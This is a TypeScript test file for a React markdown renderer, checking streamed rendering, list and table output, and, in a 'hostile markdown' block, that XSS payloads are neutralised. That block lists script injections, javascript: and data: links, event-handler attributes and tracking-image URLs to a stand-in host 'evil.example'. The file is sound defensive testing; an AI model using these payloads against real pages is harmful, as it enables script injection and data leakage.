import { act, render } from '@testing-library/react'
import { I18nextProvider } from 'react-i18next'
import { describe, expect, it } from 'vitest'
import { createI18n } from '../../../src/renderer/i18n/setup.ts'
import { MarkdownBody } from '../../../src/renderer/markdown/markdown-body.tsx'
import { MarkdownStream, type MarkdownView, parseMarkdown } from '../../../src/renderer/markdown/markdown-stream.ts'
import { SAMPLE } from './sample.ts'

const i18n = createI18n('en')

function Body({ view, live = false }: { view: MarkdownView; live?: boolean }) {
  return (
    <I18nextProvider i18n={i18n}>
      <MarkdownBody view={view} live={live} />
    </I18nextProvider>
  )
}

function draw(text: string): HTMLElement {
  return render(<Body view={parseMarkdown(text)} />).container
}

/** Markup without the classes that only say what may be skipped while out of sight. */
function markup(element: HTMLElement): string {
  return element.innerHTML.replaceAll(' rest"', '"').replace(/id="[^"]*"/g, '')
}

describe('MarkdownBody', () => {
  it('draws the same for any way of streaming as for the whole text', async () => {
    const whole = markup(draw(SAMPLE))
    for (const step of [1, 3, 7, 40]) {
      const stream = new MarkdownStream()
      const { container, rerender } = render(<Body view={stream.view()} live />)
      for (let at = 0; at < SAMPLE.length; at += step) {
        stream.append(SAMPLE.slice(at, at + step))
        if (step > 1 || at % 5 === 0) rerender(<Body view={stream.view()} live />)
      }
      await act(async () => rerender(<Body view={stream.finish()} />))
      expect(markup(container)).toBe(whole)
    }
  })

  it('keeps the DOM of a block from its first word to its settling', () => {
    const stream = new MarkdownStream()
    stream.append('first words')
    const { container, rerender } = render(<Body view={stream.view()} live />)
    const paragraph = container.querySelector('p')
    stream.append(' go on\n\n```ts\nconst a')
    rerender(<Body view={stream.view()} live />)
    const code = container.querySelector('figure')
    stream.append(' = 1\n```\n\nend')
    rerender(<Body view={stream.view()} live />)
    rerender(<Body view={stream.finish()} />)
    expect(container.querySelector('p')).toBe(paragraph)
    expect(container.querySelector('figure')).toBe(code)
    expect(code?.textContent).toContain('const a = 1')
  })

  it('marks where a live text ends, and nothing once it is whole', () => {
    const ends: [string, string][] = [
      ['a\n\nb', 'p'],
      ['# a', 'h4'],
      ['- a\n- b', 'li'],
      ['- a\n  - b', 'li li'],
      ['> a\n>\n> b', 'blockquote p'],
      ['```ts\na', '.piece'],
    ]
    for (const [text, place] of ends) {
      const stream = new MarkdownStream()
      stream.append(text)
      const { container, rerender } = render(<Body view={stream.view()} live />)
      const marks = container.querySelectorAll('.writing-end')
      expect(marks, text).toHaveLength(1)
      expect(marks[0], text).toBe([...container.querySelectorAll(place)].at(-1))
      rerender(<Body view={stream.finish()} />)
      expect(container.querySelectorAll('.writing-end'), text).toHaveLength(0)
    }
  })

  it('shifts headings, marks tasks, and aligns figures', () => {
    const box = draw('# A\n\n### B\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n')
    expect(box.querySelector('h4')?.textContent).toBe('A')
    expect(box.querySelector('h5')?.textContent).toBe('B')
    expect([...box.querySelectorAll('li svg')].map((one) => one.getAttribute('aria-label'))).toEqual(['Done', 'To do'])
    expect([...box.querySelectorAll('li')].map((one) => one.textContent)).toEqual(['done', 'open'])
    expect(box.querySelectorAll('td.n')).toHaveLength(1)
  })

  it('starts an ordered list at its number', () => {
    expect(draw('3. c\n4. d').querySelector('ol')?.getAttribute('start')).toBe('3')
  })

  it('shows long code folded, and all of it on request', () => {
    const box = draw(`\`\`\`\n${Array.from({ length: 450 }, (_, line) => `line ${line}`).join('\n')}\n\`\`\``)
    expect(box.textContent).not.toContain('line 449')
    act(() => box.querySelector<HTMLButtonElement>('.unfold')?.click())
    expect(box.textContent).toContain('line 449')
  })

  it('leaves math and lone tildes as text, and reads <br> in tables', () => {
    const box = draw('Cost $5 and $x^2$, 20~25 or 30~35.\n\n| a |\n|---|\n| b<br>c |\n')
    expect(box.querySelector('p')?.textContent).toBe('Cost $5 and $x^2$, 20~25 or 30~35.')
    expect(box.querySelector('td br')).not.toBeNull()
  })

  it('reads character references in text and not in code', () => {
    const box = draw('a &amp; b &#x41; `&lt;` &unknown;')
    expect(box.querySelector('p')?.textContent).toBe('a & b A &lt; &unknown;')
  })
})

describe('hostile markdown', () => {
  const ATTACKS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name="a"></form>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](app://bundle/)',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](https://evil.example/track.png?q=secret)',
    '![x][i]\n\n[i]: https://evil.example/a.png',
    '```"><script>alert(1)</script>\ncode\n```',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '- [x] <input autofocus onfocus=alert(1)>',
    '[constructor] [__proto__] [toString]',
    '<!-- --><b onmouseover=alert(1)>x</b><!',
  ]
  const ALLOWED = new Set(
    'DIV P A STRONG EM DEL CODE BR UL OL LI H4 H5 H6 BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD FIGURE PRE SPAN BUTTON SVG PATH CIRCLE RECT'.split(
      ' ',
    ),
  )

  it.each(ATTACKS)('%s does nothing', (attack) => {
    const box = draw(`before\n\n${attack}\n\nafter`)
    for (const element of box.querySelectorAll('*')) {
      expect(ALLOWED, element.outerHTML).toContain(element.tagName.toUpperCase())
      for (const { name, value } of element.attributes) {
        expect(name.startsWith('on'), `${name} in ${element.outerHTML}`).toBe(false)
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/)
        expect(name).not.toBe('src')
      }
    }
    expect(box.textContent).toContain('before')
    expect(box.textContent).toContain('after')
  })

  it('opens links elsewhere, without a way back, and shows where they lead', () => {
    const link = draw('[the manual](https://sqlite.org/backup.html)').querySelector('a')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.getAttribute('title')).toBe('https://sqlite.org/backup.html')
  })

  it('names an image instead of loading it', () => {
    const box = draw('![a chart](https://example.com/a.png)')
    expect(box.querySelector('img')).toBeNull()
    expect(box.querySelector('a')?.textContent).toBe('Image, not loaded: a chart')
  })
})
